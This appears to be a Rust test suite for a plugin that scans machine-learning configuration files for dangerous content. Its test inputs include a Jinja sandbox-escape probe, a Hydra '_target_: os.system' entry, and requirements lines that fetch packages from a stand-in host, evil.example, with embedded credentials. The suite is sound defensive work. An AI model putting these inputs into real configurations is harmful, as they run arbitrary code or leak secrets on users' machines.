//! The plugin on fixtures/configuration and on the corpus.

#[path = "../../safetensors/tests/labels/mod.rs"]
mod labels;

use std::path::Path;

use modelaudit_plugin::testing::{Memory, Report, conformance, scan_artifact};
use modelaudit_plugin::{Plugin, Severity};
use modelaudit_plugin_configuration::Configuration;

#[test]
fn labels_hold() {
    labels::check::<Configuration>("configuration");
}

/// The formats that the host would scan a file as: what the content says, or else the name.
fn formats(path: &Path, bytes: &[u8]) -> Vec<String> {
    let probed = Configuration::probe(&bytes[..bytes.len().min(4096)], bytes.len() as u64);
    if !probed.is_empty() {
        return probed;
    }
    let name = path.file_name().unwrap().to_string_lossy().to_lowercase();
    let extension = name.rsplit_once('.').map_or("", |(_, e)| e);
    Configuration::describe()
        .formats
        .iter()
        .filter(|f| f.extensions.contains(&extension) || f.file_names.contains(&name.as_str()))
        .map(|f| f.id.to_owned())
        .collect()
}

fn reports(path: &Path) -> Vec<Report> {
    let bytes = std::fs::read(path).unwrap();
    formats(path, &bytes).iter().map(|format| labels::scan_file::<Configuration>(path, format)).collect()
}

#[test]
fn the_corpus_is_judged() {
    let corpus = labels::fixtures().join("corpus");
    for row in labels::rows(&corpus) {
        let (path, label, severity) = (row[0].as_str(), row[1].as_str(), row[5].as_str());
        let reports = reports(&corpus.join(path));
        if label == "benign" {
            for report in &reports {
                assert!(report.worst() <= Some(Severity::Info) && report.incomplete.is_empty(), "{path}: {report:#?}");
            }
        } else if path.starts_with("config/") {
            let worst = reports.iter().filter_map(Report::worst).max();
            let template = reports.iter().flat_map(|r| &r.children).any(|c| c.hint == "jinja");
            match severity {
                "critical" => assert!(worst == Some(Severity::Critical) || template, "{path}: {reports:#?}"),
                _ => assert!(worst >= Some(Severity::Warning), "{path}: {reports:#?}"),
            }
        }
    }
}

#[test]
fn real_files_are_silent() {
    for entry in std::fs::read_dir(labels::fixtures().join("real")).unwrap() {
        let path = entry.unwrap().path();
        for report in reports(&path) {
            assert!(report.worst() <= Some(Severity::Info), "{}: {report:#?}", path.display());
            assert!(report.incomplete.is_empty(), "{}: {:?}", path.display(), report.incomplete);
        }
    }
}

#[test]
fn small_files_hold_the_contract() {
    let folder = labels::fixtures().join("configuration");
    for (file, format) in [
        ("good/tokenizer_config.json", "json-config"),
        ("bad/auto_map/config.json", "json-config"),
        ("bad/tags/apply.yaml", "yaml-config"),
        ("bad/hydra/config.yaml", "yaml-config"),
        ("good/hydra.yaml", "yaml-config"),
        ("bad/requirements.txt", "requirements"),
        ("bad/evil.pth", "python-path"),
        ("bad/pip.conf", "ini-config"),
        ("bad/comments.jsonc", "json-config"),
        ("bad/triton/config.pbtxt", "triton-config"),
        ("bad/ollama_climb/Modelfile", "modelfile"),
        ("bad/docker/Dockerfile", "dockerfile"),
    ] {
        conformance::<Configuration>(file, &std::fs::read(folder.join(file)).unwrap(), format);
    }
}

#[test]
fn templates_are_handed_on() {
    let path = labels::fixtures().join("configuration/good/templates/tokenizer_config.json");
    let report = labels::scan_file::<Configuration>(&path, "json-config");
    let texts: Vec<&str> = report.children.iter().map(|c| std::str::from_utf8(&c.bytes).unwrap()).collect();
    assert_eq!(texts, ["{{ messages[0] }}", "{{ tools }}"]);
    assert!(report.children.iter().all(|c| c.name == "chat_template.jinja" && c.hint == "jinja"));
}

/// An escape from a sandbox is one under any key; what only has braces is none.
#[test]
fn templates_under_other_keys_are_handed_on() {
    let text = r#"{"greeting": "{{ ''.__class__.__mro__ }}", "prompt_template": "{% for m in x %}{{ m }}{% endfor %}",
        "a": "{{ x }}", "b": "__class__ {", "prompt": "{{\"a\": 1}}", "license_template": "{% if x %}"}"#;
    let (report, _) = scan_artifact::<Configuration>(Memory::new("x.json", text.as_bytes()), "json-config");
    let texts: Vec<&str> = report.children.iter().map(|c| std::str::from_utf8(&c.bytes).unwrap()).collect();
    assert_eq!(texts, ["{{ ''.__class__.__mro__ }}", "{% for m in x %}{{ m }}{% endfor %}"]);
}

/// A module beside the index makes a part of the pipeline the repository's own, whatever it is called.
#[test]
fn a_part_of_a_pipeline_may_lie_beside_its_index() {
    let text = br#"{"_class_name": "FluxPipeline", "transformer": ["flux", "Net"]}"#;
    let index = || Memory::new("model_index.json", text);
    assert!(scan_artifact::<Configuration>(index(), "json-config").0.findings.is_empty());
    let beside = index().siblings(&["flux.py", "README.md"]);
    assert_eq!(scan_artifact::<Configuration>(beside, "json-config").0.of("S1012").len(), 1);
}

/// Names in what is shown keep their secrets.
#[test]
fn secrets_are_not_shown() {
    let token = "hf_".to_owned() + &"aB3dE".repeat(7);
    let text = format!(
        "--index-url https://me:hunter2x@evil.example/simple\ngit+https://{token}@evil.example/x.git\nx @ https://evil.example/{token}/x.whl\n"
    );
    let (report, _) = scan_artifact::<Configuration>(Memory::new("requirements.txt", text.as_bytes()), "requirements");
    let shown = format!("{report:?}");
    assert_eq!(report.of("S1015").len(), 3, "{shown}");
    assert!(!shown.contains("hunter2x") && !shown.contains("hf_aB"), "{shown}");
}

/// A file's own name is not needed to tell what it is.
#[test]
fn the_content_tells_deployments() {
    for (file, format) in [
        ("good/triton/config.pbtxt", "triton-config"),
        ("good/ollama/Modelfile", "modelfile"),
        ("good/docker/Dockerfile", "dockerfile"),
    ] {
        let bytes = std::fs::read(labels::fixtures().join("configuration").join(file)).unwrap();
        assert_eq!(Configuration::probe(&bytes, bytes.len() as u64), [format], "{file}");
    }
    for text in ["From: me@example.org\nTo: you\n", "from x import y\nrun = 1\n", "name: x\nversion: 1\n"] {
        assert!(Configuration::probe(text.as_bytes(), text.len() as u64).is_empty(), "{text}");
    }
}

#[test]
fn a_large_document_is_streamed_once() {
    let mut text = String::from("{\"model\":{\"vocab\":{");
    for n in 0..400_000 {
        text.push_str(&format!("\"token{n}\":{n},"));
    }
    text.push_str("\"last\":0},\"merges\":[\"a b\"");
    for n in 0..400_000 {
        text.push_str(&format!(",\"to ken{n}\""));
    }
    text.push_str("]}}");
    let (report, served) =
        scan_artifact::<Configuration>(Memory::new("tokenizer.json", text.as_bytes()), "json-config");
    assert!(report.findings.is_empty() && report.incomplete.is_empty());
    assert!(served < text.len() as u64 + (1 << 20));
}

#[test]
fn a_finding_names_the_path_and_the_bytes() {
    let text = "model:\n  naïve: [ä, {_target_: os.system}]\n";
    let (report, _) = scan_artifact::<Configuration>(Memory::new("x.yaml", text.as_bytes()), "yaml-config");
    let [finding] = report.findings.as_slice() else { panic!("{report:#?}") };
    assert_eq!(finding.element.as_deref(), Some("model.naïve[1]._target_"));
    let at = finding.at.unwrap();
    assert_eq!(&text[at.offset as usize..at.end() as usize], "os.system");
    assert_eq!(finding.message, "'_target_' names 'os.system', which starts processes");
}
